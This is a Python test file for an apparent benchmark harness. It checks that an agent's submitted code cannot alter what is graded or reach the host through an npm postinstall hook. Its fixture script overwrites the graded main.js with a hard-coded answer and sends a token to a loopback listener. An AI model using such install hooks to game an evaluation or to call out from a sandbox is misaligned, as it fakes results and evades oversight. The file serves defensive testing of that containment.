"""A hostile set-up cannot change what is graded, reach the host, or get cached: an agent's stub whose
``package.json`` runs a script at ``npm install`` (set-up of the node track) that tries to swap the full program
in, add a module beside it, read a root-only file and call a listener on the host's loopback. Under every level
present the stub is unsolved with the reason, the listener hears nothing (except under ``local``, which does
not confine the network), and a second evaluation runs set-up again rather than serving a cached swap. Set-up
sees none of the caller's toolchain variables, and one that did not make the entry is never cached."""

import contextlib
import json
import os
import shutil
import socket
import threading
import uuid
from pathlib import Path

import pytest
import yaml

from conftest import FIXTURES, sandbox_levels, scbench

SWAP = """
const fs = require("fs"), net = require("net");
const [port, token] = fs.readFileSync("target.txt", "utf8").trim().split(" ");
for (const [name, text] of [["main.js", 'console.log("42")'], ["helper.js", "module.exports = 42"]]) {
  try { fs.writeFileSync(name, text); console.log("wrote", name); } catch (e) { console.log("cannot write", name); }
}
const socket = net.connect(Number(port), "127.0.0.1", () => { socket.end(token); });
socket.on("error", () => console.log("no loopback"));
"""


def write_problem(root):
    (root / "cases" / "checkpoint_1").mkdir(parents=True)
    (root / "config.yaml").write_text(yaml.safe_dump({
        "name": "swap", "description": "Print 42.", "entry_file": "main", "timeout": 10,
        "checkpoints": {"checkpoint_1": {"order": 1}}}))
    (root / "checkpoint_1.md").write_text("# Swap\n\nPrint 42.\n")
    (root / "cases" / "checkpoint_1" / "core.yaml").write_text(yaml.safe_dump(
        {"cases": [{"id": "answer", "expect": {"stdout": "42\n"}}]}))


def write_stub(solution, port: int, token: str):
    solution.mkdir()
    (solution / "main.js").write_text('console.log("stub")\n')
    (solution / "swap.js").write_text(SWAP)
    (solution / "target.txt").write_text(f"{port} {token}\n")
    (solution / "package.json").write_text(json.dumps({"name": "stub", "version": "1.0.0",
                                                        "scripts": {"postinstall": "node swap.js"}}))


def hear(listener: socket.socket, heard: list[bytes]) -> None:
    """Answer every connection (each attempt's set-up may call) until ``listener`` is closed: a caller left
    unanswered would hold ``npm install`` until set-up's deadline."""
    with contextlib.suppress(OSError):
        while True:
            connection = listener.accept()[0]
            with connection:
                heard.append(connection.recv(100))


@pytest.mark.parametrize("level", sandbox_levels())
def test_a_set_up_that_swaps_the_program_in_is_refused_every_time_and_reaches_no_host(level, tmp_path):
    listener = socket.create_server(("127.0.0.1", 0))
    heard: list[bytes] = []
    threading.Thread(target=hear, args=(listener, heard), daemon=True).start()
    token = uuid.uuid4().hex
    write_problem(tmp_path / "problem")
    write_stub(tmp_path / "stub", listener.getsockname()[1], token)
    runs = [scbench("eval", tmp_path / "problem", "-c", 1, "-t", "node", "-s", tmp_path / "stub", "--sandbox", level,
                    "--out", tmp_path / f"out{attempt}") for attempt in (1, 2)]
    listener.close()
    swapped = "changed main.js" if level == "local" else "added helper.js"
    for done in runs:
        assert done.returncode == 1
        assert "set-up changed the solution's source, which is graded as it was given" in done.stderr
        assert swapped in done.stderr and "Traceback" not in done.stderr
        assert not (tmp_path / "out1" / "results.json").exists()
    assert (token.encode() in b"".join(heard)) == (level == "local")


def test_set_up_ignores_the_callers_toolchain_variables_and_a_set_up_without_its_entry_is_never_cached(tmp_path):
    greet = FIXTURES / "greet"
    env = {**os.environ, "CARGO_TARGET_DIR": str(tmp_path / "elsewhere"), "GOFLAGS": "-mod=vendor"}
    built = scbench("eval", greet, "-c", 1, "-t", "rust", "-s", greet / "solutions/rust/checkpoint_1",
                    "--out", tmp_path / "out", env=env)
    assert built.returncode == 0, built.stdout + built.stderr  # before: exit 127 per case, the binary elsewhere
    renamed = Path(shutil.copytree(greet / "solutions/rust/checkpoint_1", tmp_path / "renamed"))
    (renamed / "Cargo.toml").write_text((renamed / "Cargo.toml").read_text().replace('name = "greet"',
                                                                                     'name = "hello"'))
    for attempt in (1, 2):
        done = scbench("eval", greet, "-c", 1, "-t", "rust", "-s", renamed, "--out", tmp_path / f"r{attempt}")
        assert done.returncode == 1
        assert "set-up finished but the entry's target/release/greet does not exist" in done.stderr, attempt
